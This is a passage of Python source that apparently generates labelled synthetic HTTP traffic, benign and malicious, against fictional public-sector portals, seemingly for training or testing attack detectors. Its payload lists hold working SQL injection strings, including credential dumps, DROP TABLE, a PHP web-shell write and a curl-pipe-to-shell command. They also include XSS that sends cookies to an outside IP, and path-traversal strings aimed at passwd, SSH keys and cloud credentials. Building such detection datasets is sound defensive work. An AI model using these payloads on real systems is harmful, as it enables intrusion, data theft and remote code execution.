    ("Joining parcels to permits", "Is it possible to join the permits dataset to the parcels dataset on parcel_id? Locally I do:\n\nSELECT p.parcel_id, count(b.permit_no)\nFROM parcels p LEFT JOIN building_permits b ON b.parcel_id = p.parcel_id\nGROUP BY p.parcel_id HAVING count(b.permit_no) > 3;"),
    ("Bulk download script", "For anyone who needs it, this is how I pull the whole dataset nightly:\n\n#!/bin/sh\nset -eu\nfor off in $(seq 0 50000 500000); do\n  curl -s \"https://data.city.example.org/resource/erm2-nwe9.csv?\\$limit=50000&\\$offset=$off\" >> all.csv\ndone\nwc -l all.csv"),
    ("Apostrophes in street names break my filter", "Searching for Rue de l'Église with $where=street_name='Rue de l'Église' returns a 400. Doubling the quote ('Rue de l''Église') fixes it — posting in case it helps someone else."),
    ("Python client example", "import pandas as pd\nfrom sodapy import Socrata\nclient = Socrata('data.city.example.org', app_token=None)\nrows = client.get('ydr8-5enu', where=\"status='Closed'\", select='ward, count(*)', group='ward', limit=2000)\ndf = pd.DataFrame.from_records(rows)\nprint(df.sort_values('count', ascending=False).head())"),
    ("Dataset schema request", "Could the data team publish the DDL for the collisions table? Something like\n\nCREATE TABLE collisions (\n  collision_id BIGINT PRIMARY KEY,\n  occurred_at TIMESTAMP NOT NULL,\n  severity VARCHAR(16) CHECK (severity IN ('fatal','serious','slight'))\n);\n\nwould make it much easier to load into a local database."),
]
FOI_DB = [
    "Please provide the database schema (table names, column names and data types) of the case management system used by the Housing department, for example the output of a query such as SELECT table_name, column_name, data_type FROM information_schema.columns WHERE table_schema = 'public'. I do not request any of the data itself.",
    "I request a copy of the SQL query or report definition used to produce the monthly 'homeless presentations' statistic, e.g. the text of the stored procedure or the Crystal Reports / SSRS definition, so that the methodology can be understood.",
    "Please disclose the retention job that deletes records after seven years. I understand it may be a scheduled script (cron) or a DELETE FROM ... WHERE created_at < now() - interval '7 years' style statement; the text of the job definition is what I'm after.",
    "Under the Re-use of Public Sector Information Regulations, I ask for the source code of the algorithm used to score applications for the discretionary housing payment, including any configuration files (YAML/JSON) setting the weights.",
    "Please provide the data dictionary for the parking enforcement database and a list of the views that are exposed to the contractor, e.g. CREATE VIEW contractor_pcn AS SELECT ... — the definitions only, not the contents.",
]
EXHIBIT_CODE = [
    "Exhibit 14 – excerpt of Plaintiff's source file billing/calc.py (lines 101–118):\n\ndef prorate(amount, start, end):\n    days = (end - start).days + 1\n    return round(amount * days / 365, 2)\n\nDefendant's corresponding function (Exhibit 15) is materially identical save for variable names.",
    "Exhibit 7 – the configuration file deployed on 3 March 2022:\n\n<configuration>\n  <appSettings>\n    <add key=\"RetentionDays\" value=\"30\" />\n    <add key=\"PurgeOnClose\" value=\"true\" />\n  </appSettings>\n</configuration>\n\nPlaintiff contends this setting caused the deletion of the audit log.",
    "Declaration of expert witness, ¶ 23: the query run by the defendant's analyst was\n\nSELECT customer_id, email FROM subscribers WHERE opted_out = 1\n\nwhich demonstrates that the defendant knew which recipients had withdrawn consent before the campaign was sent.",
    "Exhibit 22 – shell history recovered from the server (as produced in discovery):\n\n  501  cd /var/www/portal\n  502  git log --since=2021-03-01 --oneline\n  503  tar czf /tmp/backup-0303.tgz data/\n  504  rm -rf data/exports/*.csv\n\nLine 504 is the deletion referred to in ¶ 41 of the Complaint.",
    "Appendix B – the JavaScript snippet embedded in the defendant's checkout page (Exhibit 9):\n\n<script>\n  window.dataLayer = window.dataLayer || [];\n  function gtag(){dataLayer.push(arguments);}\n  gtag('config', 'G-XXXXXXX', { 'anonymize_ip': false });\n</script>\n\nPlaintiffs allege this transmitted IP addresses without consent.",
]
IT_TICKETS = [
    ("Directory export for the Planning reorg", "Please run the following against AD and send me the CSV:\n(&(objectClass=user)(objectCategory=person)(department=Planning*)(!(userAccountControl:1.2.840.113556.1.4.803:=2)))\nWe need names, titles and managers only."),
    ("Shared mailbox permissions", "Could you grant k.oneill full access to the FOI shared mailbox? I believe it's\nAdd-MailboxPermission -Identity foi@example.org -User 'k.oneill' -AccessRights FullAccess -InheritanceType All"),
    ("Scanner drops pages", "The MFP on floor 3 drops the last page when scanning to the DMS. Log excerpt:\n2024-05-14T09:12:03Z WARN scan2dms: page 7/7 rejected: size 0; retry 1/3\n2024-05-14T09:12:05Z ERROR scan2dms: upload failed (HTTP 413)"),
    ("LDAP group for court clerks", "New staff in the clerks' office aren't picking up the right role. The filter the app uses is (&(memberOf=cn=court-clerks,ou=Groups,dc=courts,dc=example,dc=org)(mail=*)). Could someone check N'Diaye's account is in that group?"),
    ("Cron job for OCR backlog", "The nightly OCR job seems to have stopped. Current crontab entry on the worker:\n15 2 * * * /opt/ocr/bin/run-batch --queue backlog --max 500 >> /var/log/ocr/batch.log 2>&1\nCan infra check whether the pod was rescheduled?"),
]
XSLT = [
    '<?xml version="1.0"?>\n<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">\n  <xsl:template match="/IncomeTaxReturn">\n    <html><body><h1>Return for <xsl:value-of select="Taxpayer/FamilyName"/></h1>\n    <xsl:for-each select="Reliefs/Relief"><p><xsl:value-of select="@code"/>: <xsl:value-of select="."/></p></xsl:for-each>\n    </body></html>\n  </xsl:template>\n</xsl:stylesheet>',
    '<?xml version="1.0"?>\n<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">\n  <xsl:output method="text"/>\n  <xsl:template match="/"><xsl:value-of select="//cbc:ID"/>;<xsl:value-of select="count(//cbc:Note[contains(., \'union\')])"/></xsl:template>\n</xsl:stylesheet>',
    '<?xml version="1.0"?>\n<xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">\n  <xsl:param name="caseRef"/>\n  <xsl:template match="docket/entry[@case=$caseRef]"><row><xsl:copy-of select="date|text"/></row></xsl:template>\n</xsl:stylesheet>',
]
CKAN_MD = [
    "## Street trees\n\nInventory of council-maintained trees. Updated **monthly**.\n\n| field | meaning |\n|---|---|\n| `species` | Latin name |\n| `dbh_cm` | diameter at breast height |\n\nSee the <a href=\"https://data.city.example.org/dataset/street-trees/methodology\">methodology</a> and the <abbr title=\"Open Government Licence\">OGL</abbr>.",
    "FOI disclosure log, one row per request.<br/>\n<ul>\n<li><b>outcome</b>: granted / part-granted / refused</li>\n<li><b>exemption</b>: e.g. <code>s.43(2)</code>, <code>5 U.S.C. § 552(b)(6)</code></li>\n</ul>\n<p>Use <code>$where=outcome='refused'</code> to filter refusals.</p>",
    "Parcel boundaries (cadastre).\n\n```sql\nSELECT parcel_id, ST_Area(geom) FROM parcels WHERE zoning = 'R1';\n```\n\n> Note: geometry is EPSG:2157 (ITM); reproject to 4326 for web maps.",
]


def d_misc(o, rng):
    for title, text in DEV_FORUM:
        o.add("opendata-forum", "dev-content", "POST", "/api/community/topics",
              browser(rng, OPENDATA, ctype="application/json", xhr=True, referer="https://%s/community" % OPENDATA),
              js({"title": title, "raw": text, "category": rng.choice(["api-help", "datasets", "show-and-tell"])}))
    for text in FOI_DB:
        fn, ln = person(rng)
        o.add("foi-technical", "dev-content", "POST", "/new/%s" % rng.choice(["dept-housing", "city-council"]),
              browser(rng, FOI, ctype="application/x-www-form-urlencoded", referer="https://%s/new" % FOI),
              form([("authenticity_token", b64id(rng, 44)), ("outgoing_message[subject]", "Technical records request"),
                    ("outgoing_message[body]", "Dear FOI Officer,\r\n\r\n%s\r\n\r\nYours faithfully,\r\n%s %s" % (text, fn, ln)), ("commit", "Send request")]))
    for text in EXHIBIT_CODE:
        caseno = "%d-cv-%05d" % (rng.choice([23, 24]), rng.randint(1, 99999))
        if rng.random() < 0.5:
            ct, body = multipart(rng, [("caseNumber", None, None, caseno), ("documentType", None, None, "Exhibit"),
                                       ("exhibitText", None, None, text), ("attachment", "exhibit.txt", "text/plain", text)])
            o.add("court-exhibit", "dev-content", "POST", "/cmecf/filing/%s/exhibits" % caseno, browser(rng, EFILE, ctype=ct, app="court"), body)
        else:
            o.add("court-exhibit", "dev-content", "POST", "/api/ocr/v1/results", api(rng, DMS, ctype="application/json", ua="ocr-worker/2.4 (+k8s)"),
                  js({"documentId": ref(rng, "DOC"), "pages": [{"page": 1, "text": text, "confidence": 0.97}]}))
    for title, text in IT_TICKETS:
        o.add("it-ticket", "dev-content", "POST", "/servicedesk/api/tickets", browser(rng, DIRECTORY, ctype="application/json", xhr=True, app="dms"),
              js({"summary": title, "description": text, "priority": rng.choice(["P3", "P4"]), "queue": "Corporate IT"}))
    for x in XSLT:
        o.add("xslt-upload", "dev-content", "PUT", "/api/render/stylesheets/%s.xsl" % rng.choice(["it-return-summary", "espd-digest", "docket-rows"]),
              api(rng, CONVERT, ctype="application/xslt+xml", accept="application/json"), x)
    for md in CKAN_MD:
        o.add("ckan-dataset", "dev-content", "POST", "/api/3/action/package_patch", api(rng, OPENDATA, ctype="application/json", ua="ckanapi/4.7 (+https://github.com/ckan/ckanapi)"),
              js({"id": rng.choice(["street-trees", "foi-disclosure-log", "parcels"]), "notes": md}))


BENIGN = [b_benefit, b_permit, b_tax, b_caselaw, b_efile, b_foi, b_foi_comment, b_foi_browse, b_dms, b_webdav, b_ocr, b_esign,
          b_gis, b_opendata, b_identity, b_tender, b_directory, b_convert, b_redirects, b_pages, b_letters,
          d_soql, d_arcgis, d_cmis, d_letters, d_misc]


# =========================================================================== attacks
UA_TOOLS = ["sqlmap/1.8.4#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:001234)",
            "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "Fuzz Faster U Fool v2.1.0-dev",
            "gobuster/3.6", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", "zgrab/0.x", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)"]


def enc(rng, v, mode=None):
    """Query-value encoding as different clients would send it."""
    mode = mode or rng.choice(["plus", "plus", "pct", "min"])
    if mode == "plus":
        return quote_plus(v, safe="")
    if mode == "pct":
        return quote(v, safe="!'()*")
    if mode == "double":
        return quote(quote(v, safe=""), safe="")
    # curl / hand-crafted: keep most punctuation, escape what breaks the request line
    return quote(v, safe="'()*,;=:/$!@|-._~?[]")


def atk_headers(rng, host, ctype=None, tool=False, app="portal", xhr=False):
    if tool:
        h = [["Host", host], ["User-Agent", rng.choice(UA_TOOLS[:4] + UA_API)], ["Accept", "*/*"]]
        if ctype:
            h.append(["Content-Type", ctype])
        if rng.random() < 0.5:
            h.append(["Cookie", cookie(rng, app)])
        return h
    return browser(rng, host, ctype=ctype, app=app, xhr=xhr)


def carrier(rng, name, p):
    r = _carrier(rng, name, p)
    return r if len(r) == 4 else r + (None,)


def _carrier(rng, name, p):
    """Place payload p into a named field of the applications. Returns (method, uri, headers, body)."""
    tool = rng.random() < 0.35
    if name == "caselaw_q":
        return "GET", "/search?q=%s&court=all&sort=relevance" % enc(rng, p), atk_headers(rng, CASELAW, tool=tool, app="court")
    if name == "caselaw_api":
        return "GET", "/api/v1/opinions/search?q=%s&type=o" % enc(rng, p, "pct"), atk_headers(rng, CASELAW, tool=tool, app="court", xhr=True)
    if name == "foi_search":
        return "GET", "/search/requests?query=%s&latest_status=all" % enc(rng, p), atk_headers(rng, FOI, tool=tool)
    if name == "tender_kw":
        return "GET", "/notices/search?keywords=%s&status=open&sort=closing_date" % enc(rng, p), atk_headers(rng, TENDER, tool=tool)
    if name == "tender_sort":
        return "GET", "/notices/search?keywords=cleaning&status=open&sort=%s" % enc(rng, p, "pct"), atk_headers(rng, TENDER, tool=tool)
    if name == "tender_cpv":
        return "GET", "/notices/search?keywords=&cpv=%s" % enc(rng, p), atk_headers(rng, TENDER, tool=tool)
    if name == "doc_id":
        return "GET", "/documents/download?id=%s&version=1.0" % enc(rng, p, rng.choice(["pct", "min"])), atk_headers(rng, DMS, tool=tool, app="dms")
    if name == "app_status":
        return "GET", "/api/v2/applications/%s/status" % quote(p, safe="'()*,;=:$!"), atk_headers(rng, PORTAL, tool=tool, xhr=True)
    if name == "benefit_form":
        fn, ln = person(rng)
        field = rng.choice(["family_name", "given_name", "address_line1", "postcode", "circumstances"])
        pairs = [("csrf_token", b64id(rng, 40)), ("given_name", fn), ("family_name", ln), ("address_line1", rng.choice(STREETS)), ("postcode", "A96 X2Y3"),
                 ("circumstances", rng.choice(BENEFIT_STORIES))]
        pairs = [(k, p if k == field else v) for k, v in pairs]
        return "POST", "/apply/housing-assistance/household", atk_headers(rng, PORTAL, ctype="application/x-www-form-urlencoded"), form(pairs)
    if name == "permit_json":
        key = rng.choice(["description", "parcelId", "agent"])
        body = {"permitType": "householder", "site": {"address": rng.choice(STREETS), "parcelId": p if key == "parcelId" else "041-22-0193"},
                "applicant": {"name": "%s %s" % person(rng), "agent": p if key == "agent" else None},
                "description": p if key == "description" else rng.choice(PERMIT_STORIES)}
        return "POST", "/api/v2/permits", atk_headers(rng, PORTAL, ctype="application/json", xhr=True), js(body)
    if name == "foi_comment_form":
        return "POST", "/request/%d/annotate" % rng.randint(10000, 99999), atk_headers(rng, FOI, ctype="application/x-www-form-urlencoded"), \
            form([("authenticity_token", b64id(rng, 44)), ("comment[body]", rng.choice(["", rng.choice(FOI_COMMENTS) + " "]) + p), ("submitted_comment", "1")])
    if name == "foi_comment_json":
        return "POST", "/api/requests/%d/comments" % rng.randint(10000, 99999), atk_headers(rng, FOI, ctype="application/json", xhr=True), \
            js({"body": p, "visibility": "public"})
    if name == "foi_request":
        fn, ln = person(rng)
        field = rng.choice(["subject", "body"])
        subj = p if field == "subject" else "Records about the depot relocation"
        text = "Dear FOI Officer,\r\n\r\n%s\r\n\r\n%s\r\n\r\nYours faithfully,\r\n%s %s" % (rng.choice(FOI_SENTENCES), p if field == "body" else rng.choice(FOI_SENTENCES), fn, ln)
        return "POST", "/new/city-council", atk_headers(rng, FOI, ctype="application/x-www-form-urlencoded"), \
            form([("authenticity_token", b64id(rng, 44)), ("outgoing_message[subject]", subj), ("outgoing_message[body]", text), ("commit", "Send request")])
    if name == "tender_question":
        return "POST", "/tenders/%s/clarifications" % ref(rng, "TND"), atk_headers(rng, TENDER, ctype="application/x-www-form-urlencoded"), \
            form([("_token", b64id(rng, 40)), ("subject", "Clarification"), ("question", p)])
    if name == "directory_q":
        return "GET", "/directory/search?q=%s&dept=&location=" % enc(rng, p), atk_headers(rng, DIRECTORY, tool=tool, app="dms")
    if name == "cookie":
        h = atk_headers(rng, PORTAL, xhr=True)
        h = [x for x in h if x[0] != "Cookie"] + [["Cookie", "PORTALSESSION=%s; lang=%s; cookie_consent=necessary" % (b64id(rng, 32), quote(p, safe="'()*,=:/$!@ "))]]
        return "GET", "/api/v2/me", h, None
    if name == "xff":
        h = atk_headers(rng, PORTAL, tool=tool) + [["X-Forwarded-For", p]]
        return "GET", "/services/benefits", h, None
    if name == "ua":
        h = [["Host", rng.choice([PORTAL, FOI, CASELAW])], ["User-Agent", p], ["Accept", "*/*"]]
        return "GET", rng.choice(["/", "/login", "/search", "/api/v2/notifications"]), h, None
    if name == "referer":
        h = atk_headers(rng, PORTAL) + [["Referer", p]]
        return "GET", "/services/permits/apply", h, None
    if name == "soql_where":
        h = api(rng, OPENDATA, auth=False, ua=rng.choice(["python-requests/2.31.0", "curl/8.5.0", UA_TOOLS[0]]))
        return "GET", "/resource/erm2-nwe9.json?$where=%s&$limit=100" % enc(rng, p, "pct"), h, None
    if name == "soql_order":
        h = api(rng, OPENDATA, auth=False, ua=rng.choice(["python-requests/2.31.0", UA_TOOLS[0]]))
        return "GET", "/resource/ydr8-5enu.json?$select=ward,status&$order=%s" % enc(rng, p, "pct"), h, None
    if name == "gis_where":
        return "GET", "/arcgis/rest/services/Cadastre/Parcels/MapServer/0/query?where=%s&outFields=*&f=json" % enc(rng, p, "pct"), \
            atk_headers(rng, GIS, tool=tool, xhr=True)
    if name == "cmis_q":
        return "GET", "/alfresco/api/-default-/public/cmis/versions/1.1/browser?cmisselector=query&q=%s&maxItems=100" % enc(rng, p, "pct"), \
            atk_headers(rng, DMS, tool=tool, app="dms", xhr=True)
    if name == "tax_xml":
        fn, ln = person(rng)
        body = ('<?xml version="1.0" encoding="UTF-8"?>\n<IncomeTaxReturn xmlns="urn:revenue:it:2024" version="2.1">\n'
                '  <Taxpayer><GivenName>%s</GivenName><FamilyName>%s</FamilyName><PPSN>%s</PPSN></Taxpayer>\n'
                '  <Employment><Employer>Civic Offices</Employer><Gross>41230.00</Gross></Employment>\n</IncomeTaxReturn>\n') % (
            fn, ln.replace("'", "&apos;"), p.replace("&", "&amp;").replace("<", "&lt;"))
        return "POST", "/api/filing/v1/returns/form11", api(rng, TAX, ctype="application/xml", accept="application/xml"), body
    if name == "login_form":
        return "POST", "/staff/login", atk_headers(rng, DIRECTORY, ctype="application/x-www-form-urlencoded", app="dms"), \
            form([("username", p), ("password", b64id(rng, 12)), ("domain", "CITY")])
    if name == "ocr_json":
        return "POST", "/api/ocr/v1/results", api(rng, DMS, ctype="application/json", ua="ocr-worker/2.4 (+k8s)"), \
            js({"documentId": ref(rng, "DOC"), "pages": [{"page": 1, "text": "NOTICE OF APPEAL\n" + p, "confidence": 0.91}]})
    if name == "esign_decline":
        return "POST", "/hooks/esign/connect", api(rng, SIGN, ctype="application/json", auth=False, ua="DocuSign-Connect/2.0"), \
            js({"event": "envelope-declined", "data": {"envelopeId": hexid(rng, 32), "recipient": {"name": "%s %s" % person(rng)}, "declineReason": p}})
    if name == "letter_preview":
        return "GET", "/letters/preview?template=approval-letter&lang=en&caseRef=%s&salutation=%s" % (ref(rng, "BEN"), enc(rng, p)), atk_headers(rng, LETTERS, tool=tool, app="dms")
    raise KeyError(name)


def run_class(o, rng, slug, cat, items, carriers):
    for i, it in enumerate(items):
        if isinstance(it, tuple):
            p, c = it
        else:
            p, c = it, carriers[i % len(carriers)]
        m, u, h, b = carrier(rng, c, p)
        o.add(slug, cat, m, u, h, b)


SQLI = [
    "' OR '1'='1' -- ", "O'Neill' OR 1=1-- -", "') OR ('a'='a", "\" OR \"\"=\"", "' OR 'x'='x'#",
    "1' AND 1=2 UNION ALL SELECT NULL,NULL,concat(username,0x3a,password_hash),NULL FROM staff_users-- -",
    "-1 UNION SELECT 1,table_name,3,4 FROM information_schema.tables WHERE table_schema=database()#",
    "N'Diaye' UNION SELECT ppsn, date_of_birth FROM citizens--",
    "O'Neill' AND 1=0 UNION SELECT NULL, table_name FROM information_schema.tables--",
    "1 AND (SELECT 4821 FROM (SELECT(SLEEP(5)))aXbz)", "1' AND SLEEP(5) AND 'x'='x", "'; WAITFOR DELAY '0:0:7'--",
    "1); WAITFOR DELAY '00:00:05';--", "1' || pg_sleep(10)--", "1;SELECT pg_sleep(8)--", "1 AND ELT(1,SLEEP(5))",
    "' OR BENCHMARK(5000000,MD5('x'))-- ", "' AND 1=(SELECT 1 FROM pg_sleep(5))--",
    "' AND extractvalue(1,concat(0x7e,(SELECT version()),0x7e))-- ", "' AND updatexml(1,concat(0x7e,(SELECT user()),0x7e),1)-- -",
    "1' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.tables))--", "' AND 1=CAST((SELECT string_agg(usename,',') FROM pg_user) AS int)--",
    "x' AND (SELECT SUBSTRING(password,1,1) FROM users WHERE username='admin')='a'--",
    "' AND ASCII(SUBSTR((SELECT user FROM dual),1,1))>77--", "' UNION SELECT NULL,banner,NULL FROM v$version--",
    "1' AND 3412=DBMS_PIPE.RECEIVE_MESSAGE(CHR(118)||CHR(71),5)--", "'||(SELECT CASE WHEN (1=1) THEN TO_CHAR(1/0) ELSE '' END FROM dual)||'",
    "'; DROP TABLE foi_requests;--", "D'Angelo'; UPDATE applications SET status='approved' WHERE id=4411;--",
    "1; EXEC xp_cmdshell('whoami')--", "'; EXEC master..xp_dirtree '\\\\198.51.100.23\\x'--",
    "' UNION SELECT LOAD_FILE('/etc/passwd'),2,3-- -", "' UNION SELECT '<?php system($_GET[c]);?>',2 INTO OUTFILE '/var/www/html/s.php'-- -",
    "admin'/**/OR/**/1=1#", "1'/*!50000UNION*//*!50000SELECT*/1,2,3-- -", "' uNiOn SeLeCt 1,@@version,3-- -",
    "1 OR 1=1", "1' ORDER BY 12-- -", "') UNION SELECT password FROM staff WHERE ('1'='1",
    "' AND (SELECT COUNT(*) FROM all_users) > 0 AND '1'='1", "1' GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)#",
    "' UNION SELECT sql,2 FROM sqlite_master--", "1;COPY (SELECT '') TO PROGRAM 'curl http://198.51.100.23/x|sh'--",
    "1' and '1'='1' union select 1,group_concat(email,':',password),3 from portal_users-- -",
    "%' AND 1=1 AND '%'='", "1' AnD 8142=8142 AnD 'ZxQp'='ZxQp", "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))",
    "'+(select*from(select(sleep(20)))a)+'",
]
SQLI_CARRIERS = ["caselaw_q", "foi_search", "benefit_form", "tender_kw", "permit_json", "doc_id", "app_status", "caselaw_api",
                 "cookie", "tender_cpv", "directory_q", "foi_comment_json", "tax_xml", "login_form", "xff"]
SQLI_EXTRA = [
    ("(CASE WHEN (SELECT substring(current_user,1,1))='p' THEN closing_date ELSE title END)", "tender_sort"),
    ("closing_date,(SELECT 1 FROM (SELECT SLEEP(5))x)", "tender_sort"),
    ("closing_date desc;SELECT pg_sleep(6)--", "tender_sort"),
    ("status='Closed' UNION SELECT usename,passwd FROM pg_shadow--", "soql_where"),
    ("1=1) AND (SELECT 1 FROM (SELECT SLEEP(10))x) AND (1=1", "soql_where"),
    ("ward='3' OR 1=1; DROP TABLE service_requests--", "soql_where"),
    ("(SELECT CASE WHEN (1=1) THEN pg_sleep(5) END)", "soql_order"),
    ("ward,extractvalue(1,concat(0x5c,(select @@version)))", "soql_order"),
    ("1=1; DROP TABLE parcels--", "gis_where"),
    ("PARCEL_ID='1' UNION SELECT owner_name,ppsn,NULL,NULL FROM owners--", "gis_where"),
    ("OBJECTID>0 AND 1=(SELECT 1 FROM dual WHERE DBMS_PIPE.RECEIVE_MESSAGE('a',10)=1)", "gis_where"),
    ("SELECT * FROM cmis:document WHERE cmis:name='x' UNION SELECT id,user_name,password FROM alf_user--", "cmis_q"),
    ("SELECT cmis:name FROM cmis:document WHERE cmis:name='a'; DELETE FROM alf_node;--", "cmis_q"),
    ("Mozilla/5.0' AND (SELECT 5121 FROM (SELECT(SLEEP(5)))x) AND 'a'='a", "ua"),
    ("https://portal.citizen.example.org/' UNION SELECT 1,2,version()-- -", "referer"),
    ("127.0.0.1' AND SLEEP(5)#", "xff"),
]


XSS = [
    "<script>alert(document.cookie)</script>", "<img src=x onerror=alert(document.domain)>",
    "<svg/onload=fetch('https://198.51.100.9/c?'+document.cookie)>", "\"><script src=https://xss.example.net/p.js></script>",
    "'><img src=1 onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>", "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    "<details open ontoggle=alert(1)>", "<body onload=alert('FOI')>",
    "<a href=\"javascript:fetch('//198.51.100.9/'+localStorage.token)\">see annex B</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt>confirm`1`</ScRiPt>", "<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;\">",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=\"javascript:alert(1)\">", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "</textarea><script>new Image().src='//198.51.100.9/?c='+document.cookie</script>", "{{constructor.constructor('alert(1)')()}}",
    "<marquee onstart=alert(1)>", "<svg><script>alert&#40;1&#41;</script>", "\" onmouseover=\"alert(1)\" x=\"",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", "<img src=x:x onerror=window['al'+'ert'](1)>",
    "<x contenteditable onblur=alert(1)>click here</x>", "<div style=\"width:100%;height:100%;position:fixed\" onmousemove=\"alert(1)\"></div>",
    "Thanks for the reply.<script>document.location='https://198.51.100.9/steal?c='+document.cookie</script>",
    "<a href=\"jav&#x09;ascript:alert(1)\">Annex</a>", "<img/src/onerror=prompt(8)>", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a>",
    "';alert(String.fromCharCode(88,83,83))//", "<embed src=\"javascript:alert(1)\">", "<isindex action=javascript:alert(1) type=image>",
    "<form><button formaction=javascript:alert(1)>Submit</button></form>", "<iframe src=\"javascript:alert(`xss`)\">",
    "<style>@keyframes x{}</style><p style=\"animation-name:x\" onanimationstart=\"alert(1)\"></p>",
]
XSS_CARRIERS = ["foi_comment_form", "foi_comment_json", "foi_request", "benefit_form", "permit_json", "tender_question", "caselaw_q",
                "directory_q", "esign_decline", "ocr_json", "foi_search"]


def xss_special(o, rng):
    svg = '<?xml version="1.0" standalone="no"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="200" height="80"><text x="10" y="40">Site plan</text><script type="text/javascript">alert(document.domain)</script></svg>'
    ct, body = multipart(rng, [("caseRef", None, None, ref(rng, "PRM")), ("file", "site-plan.svg", "image/svg+xml", svg)])
    o.add("xss", "xss", "POST", "/api/v2/permits/%s/attachments" % ref(rng, "PRM"), browser(rng, PORTAL, ctype=ct), body)
    ct, body = multipart(rng, [("caseNumber", None, None, "24-cv-01234"), ("leadDocument", "\"><img src=x onerror=alert(1)>.pdf", "application/pdf", "%PDF-1.7\n%%EOF\n")])
    o.add("xss", "xss", "POST", "/cmecf/filing/24-cv-01234/documents", browser(rng, EFILE, ctype=ct, app="court"), body)
    o.add("xss", "xss", "GET", "/login?returnTo=" + quote("javascript:alert(document.cookie)//", safe=""), browser(rng, PORTAL))
    o.add("xss", "xss", "GET", "/login?returnTo=" + quote("data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+", safe=""), browser(rng, PORTAL))
    o.add("xss", "xss", "POST", "/api/3/action/package_patch", api(rng, OPENDATA, ctype="application/json"),
          js({"id": "street-trees", "notes": "Updated monthly. [Download the full CSV](javascript:fetch('https://198.51.100.9/?'+document.cookie))"}))
    o.add("xss", "xss", "POST", "/api/requests/%d/comments" % rng.randint(10000, 99999), browser(rng, FOI, ctype="application/json", xhr=True),
          '{"body":"Please review \\u003cscript\\u003ealert(document.cookie)\\u003c/script\\u003e","visibility":"public"}')
    o.add("xss", "xss", "GET", "/search?q=" + quote(quote("<script>alert(1)</script>", safe=""), safe="") + "&court=all", browser(rng, CASELAW, app="court"))
    o.add("xss", "xss", "GET", "/directory/search?q=%3Csvg%20onload%3Dalert%281%29%3E", browser(rng, DIRECTORY, app="dms"))
    o.add("xss", "xss", "GET", "/search/requests?query=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert%28document.domain%29%3E", browser(rng, FOI))
    o.add("xss", "xss", "POST", "/apply/housing-assistance/household", browser(rng, PORTAL, ctype="application/x-www-form-urlencoded"),
          "csrf_token=%s&given_name=%%3Cscript%%3Ealert%%281%%29%%3C%%2Fscript%%3E&family_name=O%%27Neill&postcode=A96+X2Y3" % b64id(rng, 40))


LFI_DOC = [
    "../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd", "....//....//....//....//etc/passwd", "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow",
    "..%252f..%252f..%252f..%252fetc%252fpasswd", "..%c0%af..%c0%af..%c0%af..%c0%afetc/passwd", "..\\..\\..\\..\\windows\\win.ini",
    "../../../../../../proc/self/environ", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token", "/etc/passwd",
    "../../../../etc/passwd%00.pdf", "FOI-2024-00123/../../../../../root/.ssh/id_rsa", "..%5c..%5c..%5c..%5cWindows%5cSystem32%5cdrivers%5cetc%5chosts",
    "../../../../proc/self/cwd/config/application.yml", "../../../../home/app/.aws/credentials", "/proc/1/cmdline",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "..%u2216..%u2216..%u2216windows%u2216win.ini", "C:\\Windows\\System32\\config\\SAM",
    "file:///etc/passwd",
]


def lfi_all(o, rng):
    for i, p in enumerate(LFI_DOC):
        raw_encoded = "%" in p
        c = i % 5
        if c == 0:
            u = "/documents/download?id=%s&version=1.0" % (p if raw_encoded else quote(p, safe="/.\\:"))
            o.add("lfi", "lfi", "GET", u, atk_headers(rng, DMS, tool=rng.random() < 0.5, app="dms"))
        elif c == 1:
            u = "/api/documents/%s/content" % (p.replace("/", "%2F") if not raw_encoded else p)
            o.add("lfi", "lfi", "GET", u, atk_headers(rng, DMS, tool=True, app="dms"))
        elif c == 2:
            o.add("lfi", "lfi", "POST", "/api/convert/jobs", api(rng, CONVERT, ctype="application/json"),
                  js({"documentPath": p, "pages": "all", "format": "pdf"}))
        elif c == 3:
            u = "/letters/preview?template=%s&lang=en" % (p if raw_encoded else quote(p, safe="/."))
            o.add("lfi", "lfi", "GET", u, atk_headers(rng, LETTERS, tool=rng.random() < 0.5, app="dms"))
        else:
            u = "/static/attachments?file=%s" % (p if raw_encoded else quote(p, safe="/."))
            o.add("lfi", "lfi", "GET", u, atk_headers(rng, PORTAL, tool=True))
    # path-based traversal as sent by tools with --path-as-is
